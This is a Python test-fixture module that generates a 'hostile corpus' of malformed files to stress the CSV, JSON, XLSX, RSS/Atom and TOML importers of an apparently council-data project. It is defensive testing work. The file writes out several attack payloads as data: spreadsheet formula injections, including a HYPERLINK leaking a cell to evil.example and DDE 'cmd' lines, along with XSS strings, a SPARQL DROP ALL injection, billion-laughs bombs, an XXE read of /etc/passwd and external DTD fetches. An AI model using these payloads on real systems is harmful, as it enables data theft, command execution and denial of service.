"""The hostile corpus: files that try to break each importer.

Small files are kept under tests/hostile/<importer>/ (rewrite them with
`python -m tests.hostile.corpus`); the big ones (huge cells and lines, deep JSON, a large
billion-laughs feed) are generated into a temporary directory by `write_big()` when the
tests run, so the repository stays small.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent

HEAD = "Title,Lead,Partners,Service Area,Start,End,Efficiency Gain (GBP per year),Description\n"
GOOD_ROW = (
    "Good partnership,Cardiff Council,Newport City Council,Waste,2012,2016,100000,Shared waste\n"
)
SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
SURVEY_HEAD = "Council,Has collaboration led to improved services?,Comments\n"
SURVEY_GOOD = "Cardiff Council,Agree,fine\n"


def _csv(*rows: str) -> str:
    return HEAD + "".join(r if r.endswith("\n") else r + "\n" for r in rows)


def _xlsx(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def compendium_files() -> dict[str, bytes]:
    f: dict[str, bytes] = {}
    f["empty.csv"] = b""
    f["whitespace_only.csv"] = b"   \n\n\t\n"
    f["header_only.csv"] = HEAD.encode()
    f["truncated_quote.csv"] = (HEAD + GOOD_ROW + 'Cut,"Cardiff Council,Newport').encode()
    f["truncated_utf8.csv"] = (HEAD + GOOD_ROW).encode() + "Caerffili £".encode()[:-1]
    f["nul_bytes.csv"] = (HEAD + GOOD_ROW).encode() + b"Nul\x00row,Cardiff\x00,Newport\x00\n"
    f["all_nul.csv"] = b"\x00" * 4096
    f["mixed_encoding.csv"] = (
        (HEAD + GOOD_ROW).encode()
        + "Caerffili £,Cardiff Council,Newport City Council\n".encode()
        + "Café £,Cardiff Council,Newport City Council\n".encode("cp1252")
    )
    f["utf16.csv"] = (HEAD + GOOD_ROW).encode("utf-16")
    f["latin1_controls.csv"] = (HEAD + GOOD_ROW).encode() + b"Ctl\x1b[31m\x07,Cardiff,Newport\n"
    f["control_chars.csv"] = _csv(
        GOOD_ROW, "Bell\x07 and \x1b[2J clear,Cardiff Council,Newport City Council,,,,,\x08\x0b\x0c"
    ).encode()
    f["html_everywhere.csv"] = _csv(
        f"{SCRIPT},{SCRIPT} Council,{SCRIPT}; Newport,{SCRIPT},2012,2014,{SCRIPT},{SCRIPT}",
        GOOD_ROW,
    ).encode()
    f["formula_cells.csv"] = _csv(
        *(
            f'"{x.replace(chr(34), chr(34) * 2)}",Cardiff Council,Newport City Council'
            for x in FORMULAS
        ),
        f'Formula partner,"{FORMULAS[1]}",Newport City Council',
        "Formula amount,Cardiff Council,Newport City Council,Waste,2012,,=1+1",
        f'"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",Cardiff Council,Newport City Council,'
        "Waste,31/02/2015,,,=cmd|' /C calc'!A0",
    ).encode()
    f["bad_dates.csv"] = _csv(
        GOOD_ROW,
        "Feb 31,Cardiff Council,Newport City Council,Waste,31/02/2015",
        "Month 13,Cardiff Council,Newport City Council,Waste,01/13/2015",
        "Year 0,Cardiff Council,Newport City Council,Waste,0000",
        "Far future,Cardiff Council,Newport City Council,Waste,99999-01-01",
        "Ends first,Cardiff Council,Newport City Council,Waste,2016,2012",
    ).encode()
    f["bad_amounts.csv"] = _csv(
        GOOD_ROW,
        "Huge,Cardiff Council,Newport City Council,Waste,2012,,£1e308",
        "Inf,Cardiff Council,Newport City Council,Waste,2012,,inf",
        "NaN,Cardiff Council,Newport City Council,Waste,2012,,NaN",
        "Negative,Cardiff Council,Newport City Council,Waste,2012,,-£5m",
        "Digits,Cardiff Council,Newport City Council,Waste,2012,," + "9" * 400,
        "Words,Cardiff Council,Newport City Council,Waste,2012,,£ lots and lots",
    ).encode()
    f["iri_chars.csv"] = (
        b"ID,Title,Lead,Partners\n"
        b"<P 1>,Angle <brackets> title,Cardiff Council,Newport City Council\n"
        b'has space,"Quote "" and } { ; DROP ALL",Cardiff Council,Newport City Council\n'
        b"http://x/ y>,Backslash \\u0041 \\,Cardiff Council,Newport City Council\n"
    )
    f["sparql_injection.csv"] = _csv(
        '"x"" } ; DROP ALL ; INSERT DATA { <a:b> <a:b> <a:b> } #",'
        "Cardiff Council,Newport City Council",
        GOOD_ROW,
    ).encode()
    f["too_many_cells.csv"] = _csv(GOOD_ROW, "A,B,C,D,E,F,G,H,I,J,K,L,M,N").encode()
    f["one_partner_only.csv"] = _csv(
        "Solo,Cardiff Council,Cardiff Council", "Empty partners,,", GOOD_ROW
    ).encode()
    f["binary.csv"] = bytes(range(256)) * 16
    f["pdf_renamed.csv"] = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n"
    f["duplicate_headers.csv"] = (
        b"Title,Title,Lead,Lead,Partners\nDup,Dup2,Cardiff Council,X,Newport City Council\n"
    )
    f["crlf_cr_mix.csv"] = (HEAD.replace("\n", "\r") + GOOD_ROW.replace("\n", "\r\n")).encode()
    # JSON
    f["json_empty.json"] = b""
    f["json_truncated.json"] = b'[{"Title": "Cut", "Lead": "Cardiff Council", "Partners": "New'
    f["json_not_list.json"] = b'"just a string"'
    f["json_number.json"] = b"1e999"
    f["json_wrong_types.json"] = json.dumps(
        [
            {"Title": ["a", "list"], "Lead": {"o": 1}, "Partners": 5},
            {"Title": None, "Lead": True, "Partners": None},
            {"Title": "Good", "Lead": "Cardiff Council", "Partners": "Newport City Council"},
        ]
    ).encode()
    f["json_html_formula.json"] = json.dumps(
        [
            {
                "Title": FORMULAS[0],
                "Lead": SCRIPT,
                "Partners": "Newport City Council; " + FORMULAS[3],
                "Description": SCRIPT + "\x00\x1b",
                "Start": "31/02/2015",
                "Efficiency Gain (GBP per year)": "£1e308",
            },
            {"Title": "Good", "Lead": "Cardiff Council", "Partners": "Newport City Council"},
        ]
    ).encode()
    f["jsonl_mixed.jsonl"] = (
        b'{"Title": "Good", "Lead": "Cardiff Council", "Partners": "Newport City Council"}\n'
        b"not json at all\n"
        b"[1,2,3]\n"
        b'{"Title": "Half"\n'
    )
    f["json_bom_latin1.json"] = (
        b"\xef\xbb\xbf"
        + json.dumps(
            [{"Title": "Caf\u00e9", "Lead": "Cardiff Council", "Partners": "Newport City Council"}]
        ).encode()
        + b"\xa3"
    )
    # XLSX
    f["xlsx_formula_html.xlsx"] = _xlsx(
        [
            ["Title", "Lead", "Partners", "Start", "Efficiency Gain (GBP per year)"],
            [FORMULAS[1], "Cardiff Council", "Newport City Council", "31/02/2015", "£1e308"],
            ["=1+1", "Cardiff Council", "Newport City Council", None, None],
            [SCRIPT, "Cardiff Council", "Newport City Council", 2012, 1000],
        ]
    )
    f["xlsx_empty.xlsx"] = _xlsx([])
    f["xlsx_truncated.xlsx"] = _xlsx([["Title", "Lead", "Partners"], ["A", "B", "C"]])[:300]
    f["xlsx_not_zip.xlsx"] = b"Title,Lead,Partners\nA,Cardiff Council,Newport City Council\n"
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    f["xlsx_wrong_zip.xlsx"] = zbuf.getvalue()
    return f


def news_files() -> dict[str, bytes]:
    f: dict[str, bytes] = {}
    art = (
        "Cardiff and Newport councils agree shared waste service\n\nPublished 14 May 2019\n\n"
        "Cardiff Council and Newport City Council have agreed to run a joint waste service, "
        "expected to save £600,000 a year.\n"
    )
    f["empty.txt"] = b""
    f["nul_article.txt"] = art.encode().replace(b" ", b"\x00", 5)
    f["truncated_utf8.txt"] = art.encode() + "£".encode()[:1]
    f["cp1252_article.txt"] = art.encode("cp1252")
    f["control_chars.txt"] = art.replace("Cardiff Council", "Cardiff\x1b[2J\x07 Council").encode()
    f["script_article.html"] = (
        f"<html><head><script>alert(1)</script><title>{SCRIPT}</title></head><body>"
        f"<h1>Cardiff and Newport agree shared service {SCRIPT}</h1><p>Published 14 May 2019</p>"
        "<p onclick='evil()'>Cardiff Council and Newport City Council have agreed to share "
        f"a waste service.<iframe src='javascript:alert(1)'></iframe></p>{SCRIPT}</body></html>"
    ).encode()
    f["bad_date_article.txt"] = art.replace("14 May 2019", "31 February 2015").encode()
    f["money_article.txt"] = art.replace("£600,000", "£1e308").encode()
    f["formula_article.txt"] = (
        FORMULAS[1] + "\n\nPublished 14 May 2019\n\n" + "Cardiff Council and Newport City "
        'Council agree =HYPERLINK("http://evil") shared service.\n'
    ).encode()
    f["unclosed.html"] = b"<html><body><h1>Cardiff and Newport<p><div><div><div><table><tr><td>"
    f["deep_html.html"] = (b"<div>" * 5000) + art.encode() + (b"</div>" * 10)
    f["bomb.rss"] = (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        b'<rss version="2.0"><channel><title>&lol3;</title><item><title>&lol3;</title>'
        b"</item></channel></rss>"
    )
    f["xxe.atom"] = (
        b'<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><entry><title>&xxe;'
        b"</title><summary>&xxe;</summary></entry></feed>"
    )
    f["external_dtd.rss"] = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">'
        b'<rss version="2.0"><channel><title>t</title><item><title>Cardiff and Newport'
        b"</title></item></channel></rss>"
    )
    f["parameter_entity.rss"] = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>'
        b'<rss version="2.0"><channel><item><title>x</title></item></channel></rss>'
    )
    f["truncated.rss"] = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>News</title><item><title>'
        b"Cardiff Council and Newport City Council agree shared waste service</title><descr"
    )
    f["feed_iris.rss"] = (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>IRIs</title>'
        "<link>http://example.org/a feed with spaces</link>"
        "<item><title>Cardiff Council and Newport City Council agree shared waste service</title>"
        '<link>http://example.org/news/1 <script>&gt;"{}|\\^`</link>'
        "<guid>urn:x:&lt;angle&gt; brackets</guid>"
        "<description>Cardiff Council and Newport City Council have agreed to share a waste "
        f"service. {SCRIPT.replace('<', '&lt;')}</description>"
        "<pubDate>Tue, 31 Feb 2015 09:00:00 GMT</pubDate></item>"
        "<item><title>" + FORMULAS[0].replace("&", "&amp;").replace('"', "&quot;") + "</title>"
        "<link>javascript:alert(1)</link>"
        "<description>Swansea Council and Neath Port Talbot Council agree merger talks, "
        "saving £1e308.</description><pubDate>Mon, 02 Mar 2020 09:00:00 GMT</pubDate></item>"
        "</channel></rss>"
    ).encode()
    f["feed_wrong_encoding.rss"] = (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Enc</title>'
        "<item><title>Caerffili £ Cardiff Council and Newport City Council agree shared service"
        "</title><description>Café</description><pubDate>Mon, 02 Mar 2020 09:00:00 GMT</pubDate>"
        "</item></channel></rss>"
    ).encode("cp1252")
    f["feed_nul.rss"] = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>N\x00</title><item><title>'
        b"Cardiff\x00 Council</title></item></channel></rss>"
    )
    f["feed_no_entries.atom"] = b'<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>'
    return f


def survey_files() -> dict[str, bytes]:
    f: dict[str, bytes] = {}
    f["empty.csv"] = b""
    f["header_only.csv"] = SURVEY_HEAD.encode()
    f["nul.csv"] = (SURVEY_HEAD + SURVEY_GOOD).encode() + b"Newport\x00 City Council,Agree\x00,\n"
    f["formula_html.csv"] = (
        SURVEY_HEAD
        + SURVEY_GOOD
        + f'"{FORMULAS[1]}",Agree,"{SCRIPT}"\n'
        + f"Newport City Council,Strongly agree,{FORMULAS[3]}\n"
        + "Swansea Council,Agree,\x1b[2J\x07\n"
    ).encode()
    f["truncated.csv"] = (SURVEY_HEAD + SURVEY_GOOD + 'Newport City Council,"Agr').encode()
    f["mixed_encoding.csv"] = (SURVEY_HEAD + SURVEY_GOOD).encode() + (
        "Caerffili £,Agree,Café\n".encode("cp1252")
    )
    f["no_questions.csv"] = b"Council,Notes\nCardiff Council,hello\n"
    # definitions: a broken TOML beside its responses, and one with hostile content
    f["broken_toml.csv"] = (SURVEY_HEAD + SURVEY_GOOD).encode()
    f["broken_toml.toml"] = b'[survey\nid = "x\n\x00'
    f["hostile_def.csv"] = (
        "Council,Year,Q1\nCardiff Council,31/02/2015,Agree\nNewport City Council,2015,£1e308\n"
    ).encode()
    f["hostile_def.toml"] = (
        "[survey]\n"
        f'id = "<bad id> with spaces {{}}"\n'
        f'title = "{SCRIPT}"\n'
        'period = "31/02/2015"\n'
        "[columns]\n"
        'respondent = "Council"\n'
        'period = "Year"\n'
        "[[questions]]\n"
        'id = "q 1 <x>"\n'
        'column = "Q1"\n'
        f'text = "{FORMULAS[1].replace(chr(39), "")}"\n'
        'measures = "=cmd"\n'
        'scale = "agreement"\n'
    ).encode()
    f["json_deep.json"] = b"[" * 50 + b"]" * 50
    f["json_wrong.json"] = json.dumps([{"Council": ["x"], "Q": {"a": 1}}, 5, None]).encode()
    return f


def write_small(root: Path = HERE) -> int:
    n = 0
    for importer, files in (
        ("compendium", compendium_files()),
        ("news", news_files()),
        ("survey", survey_files()),
    ):
        d = root / importer
        d.mkdir(parents=True, exist_ok=True)
        for name, data in files.items():
            (d / name).write_bytes(data)
            n += 1
    return n


def write_big(root: Path) -> dict[str, Path]:
    """Generated at test time: (importer, file) for the large hostile inputs."""
    out: dict[str, Path] = {}
    root.mkdir(parents=True, exist_ok=True)

    def put(name: str, data: bytes, importer: str) -> None:
        p = root / name
        p.write_bytes(data)
        out[name] = (importer, p)  # type: ignore[assignment]

    put(
        "huge_cell.csv",
        (HEAD + GOOD_ROW + "Huge,Cardiff Council,Newport City Council,,,,,").encode()
        + b"x" * 12_000_000
        + b"\n",
        "compendium",
    )
    put("huge_line_no_newline.csv", b"Title,Lead," + b"y" * 20_000_000, "compendium")
    put(
        "many_columns.csv",
        (",".join(f"c{i}" for i in range(20_000)) + "\n" + ",".join("v" * 20_000) + "\n").encode(),
        "compendium",
    )
    put("deep.json", b"[" * 100_000 + b"]" * 100_000, "compendium")
    put(
        "deep_object.json",
        b'[{"Title": ' + b'{"a": ' * 50_000 + b"1" + b"}" * 50_000 + b"}]",
        "compendium",
    )
    put(
        "big_bomb.rss",
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'.encode()
            if i > 1
            else b'<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
            for i in range(1, 10)
        )
        + b']><rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title>'
        b"</item></channel></rss>",
        "news",
    )
    put(
        "huge_line.txt",
        b"Cardiff Council and Newport City Council agree shared service " * 300_000,
        "news",
    )
    put(
        "huge_survey_cell.csv",
        (SURVEY_HEAD + SURVEY_GOOD + "Newport City Council,Agree,").encode()
        + b"z" * 11_000_000
        + b"\n",
        "survey",
    )
    return out  # type: ignore[return-value]


if __name__ == "__main__":
    print(f"{write_small()} files written under {HERE}")
